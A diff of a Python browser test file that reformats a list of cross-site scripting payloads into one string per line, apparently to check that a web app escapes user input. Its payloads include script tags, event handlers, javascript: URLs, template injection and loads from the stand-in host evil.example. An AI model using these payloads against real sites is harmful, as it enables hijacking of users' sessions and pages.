@@ -11,14 +11,30 @@ from .conftest import PHONE, sign_in
 
 pytestmark = pytest.mark.browser
 PAYLOADS = [
-    "<script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>", "</textarea><script>pwned()//",
-    "\"><script src=//evil.example/x.js></script>", "' autofocus onfocus='pwned()", "<iframe srcdoc='<script>'>",
-    "javascript:pwned()", "<a href=javascript:pwned()>x</a>", "<style>@import '//evil.example';</style>",
-    "</script><script>pwned()</script>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//e.x>",
-    "<form action=//evil.example><button>", "{{constructor.constructor('pwned()')()}}", "${pwned()}", "<!--<script>-->",
-    "<div hx-get=//evil.example hx-trigger=load>", "<p hx-on:load=pwned()>", "<math><mi xlink:href=javascript:pwned()>",
-    "<object data=//evil.example>", "<link rel=stylesheet href=//evil.example>", "]]><x onclick=pwned()>",
-]  # fmt: skip
+    "<script>pwned()</script>",
+    "<img src=x onerror=pwned()>",
+    "<svg onload=pwned()>",
+    "</textarea><script>pwned()//",
+    '"><script src=//evil.example/x.js></script>',
+    "' autofocus onfocus='pwned()",
+    "<iframe srcdoc='<script>'>",
+    "javascript:pwned()",
+    "<a href=javascript:pwned()>x</a>",
+    "<style>@import '//evil.example';</style>",
+    "</script><script>pwned()</script>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//e.x>",
+    "<form action=//evil.example><button>",
+    "{{constructor.constructor('pwned()')()}}",
+    "${pwned()}",
+    "<!--<script>-->",
+    "<div hx-get=//evil.example hx-trigger=load>",
+    "<p hx-on:load=pwned()>",
+    "<math><mi xlink:href=javascript:pwned()>",
+    "<object data=//evil.example>",
+    "<link rel=stylesheet href=//evil.example>",
+    "]]><x onclick=pwned()>",
+]
 OURS = ("school", "walks", "observations")
 FIXED = ("email", "password", "time_zone", "state", "outcome", "uid", "file", "action", "theme", "locale", "hashtags")
 LISTEN = "window.ran = 0; window.pwned = () => { window.ran += 1 }"
